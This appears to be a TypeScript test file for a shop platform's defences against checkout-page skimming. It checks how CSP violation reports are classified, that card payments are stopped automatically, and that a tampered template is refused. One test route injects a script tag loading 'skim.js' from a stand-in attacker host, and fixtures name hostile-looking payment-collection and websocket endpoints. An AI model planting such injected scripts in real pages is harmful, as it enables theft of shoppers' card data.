import type { FastifyInstance } from 'fastify';
import { h } from 'preact';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp } from '../../../../test/test-app.ts';
import { createTestDatabase } from '../../../../test/test-database.ts';
import { seedDemoPlatform } from '../../../demo/seed-platform.ts';
import { classifyCspReport } from '../../../domains/security/csp-report.events.ts';
import type { NormalizedCspReport } from '../../../domains/security/csp-report.service.ts';
import type { Database } from '../../../platform/db/database.ts';
import type { RouteModule } from '../../../platform/http/app.ts';
import { inShop } from '../../../platform/http/request-scope.ts';
import { registerShopRoutes } from '../../../platform/http/shop-routes.ts';
import { Layout } from '../../../platform/views/layout.tsx';
import { unsafeRawHtml } from '../../../platform/views/raw-html.ts';
import { ROUTES } from '../../routes.ts';

/** The existing layers (report intake, render refusal) feed security events and stop cards. */

let database: Database;
let app: FastifyInstance;
let mallId: string;

const tamperedTemplate: RouteModule = (a, platform) =>
  registerShopRoutes(a, platform, (shopApp) => {
    shopApp.get('/test/tampered-template', async (req, reply) => {
      await inShop(platform, req, async () => null);
      return reply.page(
        h(Layout, {
          title: 't',
          brand: { name: 'T', href: '/' },
          stylesheetUrl: platform.assets.url('css/app.css'),
          children: unsafeRawHtml('<script src="https://cdn.evil.example/skim.js"></script>', 'trusted-markup'),
        }),
        { page: 'checkout' },
      );
    });
  });

beforeAll(async () => {
  database = await createTestDatabase();
  await seedDemoPlatform(database);
  ({ app } = await createTestApp(database, { routes: [...ROUTES, tamperedTemplate] }));
  mallId = (await database.ownerExec(`SELECT id FROM tenants WHERE slug = 'mall'`)).rows[0]!.id as string;
});
afterAll(async () => {
  await app?.close();
  await database?.close();
});

const report = (over: Partial<NormalizedCspReport>): NormalizedCspReport => ({
  document_uri: 'http://localhost:3000/s/mall/checkout',
  blocked_uri: 'https://evil.example/x.js',
  violated_directive: 'script-src-elem',
  effective_directive: 'script-src-elem',
  disposition: 'enforce',
  source_file: '',
  line_number: null,
  column_number: null,
  script_sample: '',
  ...over,
});

const mallSwitch = async () =>
  (await database.ownerExec(`SELECT engaged, automatic FROM card_kill_switches WHERE tenant_id = $1`, [mallId])).rows as { engaged: boolean; automatic: boolean }[];

describe('CSP classification', () => {
  it('is critical for script, Trusted Types and anything from or to a foreign host on protected pages', () => {
    expect(classifyCspReport(report({}), 'checkout')).toMatchObject({ severity: 'critical', layer: 'csp_report', kind: 'csp.script-src-elem', blocked: 'https://evil.example' });
    expect(classifyCspReport(report({ effective_directive: 'require-trusted-types-for', blocked_uri: 'trusted-types-sink' }), 'staff-sign-in')).toMatchObject({ severity: 'critical', layer: 'trusted_types' });
    expect(classifyCspReport(report({ effective_directive: 'form-action', blocked_uri: 'https://pay-stripe.example/collect' }), 'checkout').severity).toBe('critical');
    expect(classifyCspReport(report({ effective_directive: 'connect-src', blocked_uri: 'wss://evil.example/ws' }), 'account-sign-in').severity).toBe('critical');
    // Beacons, payload stylesheets and fonts (catalogue 5 and 10): Oroshi's pages load nothing from another origin.
    expect(classifyCspReport(report({ effective_directive: 'img-src', blocked_uri: 'https://evil.example/b.gif' }), 'checkout').severity).toBe('critical');
    expect(classifyCspReport(report({ effective_directive: 'style-src-elem', blocked_uri: 'https://evil.example/k.css' }), 'checkout').severity).toBe('critical');
    expect(classifyCspReport(report({ effective_directive: 'font-src', blocked_uri: 'https://evil.example/f.woff2' }), 'checkout').severity).toBe('critical');
  });

  it('keeps what a reader’s own browser does to a protected page below a card stop', () => {
    expect(classifyCspReport(report({ effective_directive: 'style-src-attr', blocked_uri: 'inline' }), 'checkout').severity).toBe('warning');
    expect(classifyCspReport(report({ effective_directive: 'img-src', blocked_uri: 'data' }), 'checkout').severity).toBe('warning');
    // Chrome's built-in page translation injects its own stylesheet and images.
    expect(classifyCspReport(report({ effective_directive: 'style-src-elem', blocked_uri: 'https://translate.googleapis.com/translate_static/css/translateelement.css' }), 'checkout').severity).toBe('warning');
    expect(classifyCspReport(report({ effective_directive: 'img-src', blocked_uri: 'https://www.gstatic.com/images/branding/product/1x/translate_24dp.png' }), 'checkout').severity).toBe('warning');
  });

  it('is a warning or information elsewhere, and information for browser extensions', () => {
    expect(classifyCspReport(report({}), 'shop-product').severity).toBe('warning');
    expect(classifyCspReport(report({ effective_directive: 'img-src' }), 'shop-product').severity).toBe('info');
    expect(classifyCspReport(report({ source_file: 'chrome-extension://abc/content.js' }), 'checkout')).toMatchObject({ severity: 'info', kind: 'csp.script-src-elem.extension' });
  });
});

describe('wired layers', () => {
  it('a script-src report from a checkout page stops cards for that shop before the intake answers', async () => {
    expect(await mallSwitch()).toEqual([]);
    const res = await app.inject({
      method: 'POST',
      url: '/s/mall/hooks/csp-report?page=checkout',
      headers: { 'content-type': 'application/csp-report', 'user-agent': 'Mozilla/5.0 (iPhone)' },
      payload: JSON.stringify({ 'csp-report': { 'document-uri': 'http://localhost/s/mall/checkout', 'blocked-uri': 'https://evil.example/x.js', 'effective-directive': 'script-src-elem' } }),
    });
    expect(res.statusCode).toBe(204);
    expect(await mallSwitch()).toEqual([{ engaged: true, automatic: true }]);
    const events = (await database.ownerExec(`SELECT layer, severity, page, tenant_id FROM security_events WHERE tenant_id = $1`, [mallId])).rows;
    expect(events).toEqual([{ layer: 'csp_report', severity: 'critical', page: 'checkout', tenant_id: mallId }]);
  });

  it('a page refused for an uninventoried script raises a critical render-refusal event for the shop', async () => {
    const res = await app.inject({ method: 'GET', url: '/s/mall/test/tampered-template' });
    expect(res.statusCode).toBe(500);
    expect(res.body).not.toContain('evil.example');
    let rows: { layer: string; severity: string; tenant_id: string; contained_at: Date | null }[] = [];
    // The refusal is raised without holding up the error page: wait for its containment to land.
    for (let i = 0; i < 100 && !rows[0]?.contained_at; i++) {
      await new Promise((r) => setTimeout(r, 50));
      rows = (await database.ownerExec(`SELECT layer, severity, tenant_id, contained_at FROM security_events WHERE layer = 'render_refusal'`)).rows as typeof rows;
    }
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ layer: 'render_refusal', severity: 'critical', tenant_id: mallId });
    expect(rows[0]!.contained_at).not.toBeNull();
    const evidence = (await database.ownerExec(`SELECT data->>'found' AS found FROM security_evidence WHERE kind = 'refused-markup'`)).rows;
    expect(evidence[0]!.found).toContain('cdn.evil.example');
  });
});
